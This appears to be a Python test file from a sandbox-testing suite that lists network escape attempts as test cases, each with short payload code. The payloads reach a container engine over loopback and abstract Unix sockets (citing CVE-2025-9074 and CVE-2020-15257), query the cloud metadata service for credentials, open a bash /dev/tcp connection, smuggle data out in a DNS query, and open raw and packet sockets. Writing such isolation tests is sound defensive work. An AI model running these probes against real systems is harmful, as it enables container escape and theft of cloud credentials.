"""Attacks over the network and over every other way that processes talk."""

from __future__ import annotations

from tests.attack.case import Case
from tests.attack.victim_network import (
    abstract_datagram,
    abstract_stream,
    caller,
    metadata,
    path_datagram,
    path_stream,
    tcp,
    tcp6,
    udp,
)

_ASK = """
import socket
def ask(one, *address):
    one.settimeout(2)
    if address: one.connect(*address)
    if has_token(one.recv(100)): escaped("was answered")
"""

CASES = (
    Case(
        "tcp",
        "network",
        "reach a service of the host that trusts the loopback, such as a container engine's",
        _ASK + 'ask(socket.socket(), ("127.0.0.1", S["tcp"]))',
        (tcp,),
        known_as="CVE-2025-9074",
        everyday=True,
    ),
    Case(
        "tcp-by-shell",
        "network",
        "reach it with the shell's own means",
        'bash -c \'exec 3<>"/dev/tcp/127.0.0.1/$0" && head -c 30 <&3\' "$4" | grep -q -- "$3" && echo ESCAPED\n'
        "echo HELD",
        (tcp,),
        language="sh",
    ),
    Case(
        "tcp-over-ipv6",
        "network",
        "reach a service over IPv6",
        _ASK + 'ask(socket.socket(socket.AF_INET6), ("::1", S["tcp6"]))',
        (tcp6,),
    ),
    Case(
        "tcp-over-mapped-address",
        "network",
        "reach a service by the IPv6 spelling of an IPv4 address",
        _ASK + 'ask(socket.socket(socket.AF_INET6), ("::ffff:127.0.0.1", S["tcp"]))',
        (tcp,),
    ),
    Case(
        "tcp-without-connect",
        "network",
        "send with the first packet, so that no connect is ever asked for",
        _ASK
        + """
one = socket.socket()
one.sendto(b"x", 0x20000000, ("127.0.0.1", S["tcp"]))
ask(one)
""",
        (tcp,),
    ),
    Case(
        "tcp-over-many-paths",
        "network",
        "reach a service by multipath TCP, which rules for TCP do not name",
        _ASK + 'ask(socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262), ("127.0.0.1", S["tcp"]))',
        (tcp,),
    ),
    Case(
        "udp",
        "network",
        "carry data out in datagrams, as a name server would take them",
        _ASK
        + """
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
one.connect(("127.0.0.1", S["udp"]))
one.send(b"query")
ask(one)
""",
        (udp,),
        everyday=True,
    ),
    Case(
        "resolver",
        "network",
        "carry data out in a question to the name server that the host uses",
        _ASK
        + """
question = b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6) + b"\\x06secret\\x07example\\x00\\x00\\x01\\x00\\x01"
one = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
one.connect(("::ffff:127.0.0.1", S["udp"]))
one.send(question)
ask(one)
""",
        (udp,),
    ),
    Case(
        "metadata-service",
        "network",
        "ask the cloud's metadata service for credentials",
        _ASK + 'ask(socket.socket(), ("169.254.169.254", 80))',
        (metadata,),
        own_network=True,
    ),
    Case(
        "be-reached",
        "network",
        "offer a service to whoever is outside",
        """
import socket
one = socket.create_server(("127.0.0.1", S["port"]))
one.settimeout(2)
caller, _ = one.accept()
if has_token(caller.recv(100)): escaped("was called")
""",
        (caller,),
    ),
    Case(
        "socket-at-a-path",
        "network",
        "speak to a container engine at its path",
        _ASK + 'ask(socket.socket(socket.AF_UNIX), S["path"])',
        (path_stream,),
        everyday=True,
    ),
    Case(
        "datagram-at-a-path",
        "network",
        "speak to a daemon by datagrams at its path",
        """
import socket
socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", S["path"])
escaped("it was taken")
""",
        (path_datagram,),
    ),
    Case(
        "repointed-pair",
        "network",
        "speak to a daemon by a socket that was made as one of a pair",
        """
import socket
socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"x", S["path"])
escaped("it was taken")
""",
        (path_datagram,),
    ),
    Case(
        "abstract-socket",
        "network",
        "speak to a daemon at a name that lies in no folder",
        _ASK + 'ask(socket.socket(socket.AF_UNIX), "\\0" + S["name"])',
        (abstract_stream,),
        known_as="CVE-2020-15257",
        everyday=True,
    ),
    Case(
        "abstract-datagram",
        "network",
        "do the same by datagrams, from one of a pair",
        """
import socket
for one in (lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM),
            lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]):
    try: one().sendto(b"x", "\\0" + S["name"])
    except OSError: continue
    escaped("it was taken")
""",
        (abstract_datagram,),
    ),
    Case(
        "vsock",
        "network",
        "speak to the hypervisor",
        """
import socket
socket.socket(socket.AF_VSOCK)
escaped("opened it")
""",
    ),
    Case(
        "netlink",
        "network",
        "speak to the kernel about its network",
        """
import socket
socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
escaped("opened it")
""",
        everyday=True,
        partial={"gvisor-root": "system_calls"},
    ),
    Case(
        "packets",
        "network",
        "read and write whole packets",
        """
import socket
socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
escaped("opened it")
""",
        control="root",
    ),
    Case(
        "raw",
        "network",
        "write packets in the name of others",
        """
import socket
socket.socket(socket.AF_INET, socket.SOCK_RAW, 17)
escaped("opened it")
""",
        control="root",
    ),
    Case(
        "every-family",
        "network",
        "find any other way to talk that opens",
        """
import socket
for family in range(3, 64):
    if family == 10: continue
    for kind in (1, 2, 3, 5):
        try: socket.socket(family, kind)
        except OSError: continue
        escaped(family)
""",
        partial={"gvisor-root": "system_calls"},
    ),
)
